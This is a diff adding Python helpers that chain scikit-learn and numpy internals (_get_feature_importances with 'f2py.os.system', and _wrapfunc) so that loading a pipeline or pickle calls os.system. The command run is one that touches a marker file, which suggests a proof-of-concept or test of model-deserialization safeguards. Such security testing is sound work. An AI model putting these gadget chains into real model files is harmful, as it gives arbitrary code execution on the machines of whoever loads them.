@@ -229,3 +229,32 @@ def build_on_class() -> bytes:
     """BUILD on a class: replaces ``LogisticRegression.predict`` with ``numpy.take``."""
     state = pickle.dumps((None, {"predict": np.take}), protocol=2)[2:-1]
     return b"\x80\x02csklearn.linear_model\nLogisticRegression\n" + state + b"b."
+
+
+def attrgetter_chain(marker: Path):
+    """Another getattr-like helper: a dotted ``attrgetter`` path in one step.
+
+    ``_get_feature_importances(namespace, getter="f2py.os.system")`` returns
+    ``os.system``; ``numpy.fromfunction`` then calls it.
+    """
+    from sklearn.feature_selection._base import _get_feature_importances
+
+    to_os_system = _to_os_system()[:2] + [
+        ("system", _step(_get_feature_importances, getter="f2py.os.system"))
+    ]
+    return _pipeline(
+        [*to_os_system, ("run", _step(np.fromfunction, shape=(), command=touch_command(marker)))]
+    )
+
+
+def wrapfunc_chain(marker: Path):
+    """A helper that looks a method up by name *and* calls it: numpy's ``_wrapfunc``.
+
+    ``_wrapfunc(os, method="system", command=...)`` is ``os.system(command=...)``.
+    """
+    from numpy._core.fromnumeric import _wrapfunc
+
+    to_os = _to_os_system()[:4]
+    return _pipeline(
+        [*to_os, ("run", _step(_wrapfunc, method="system", command=touch_command(marker)))]
+    )
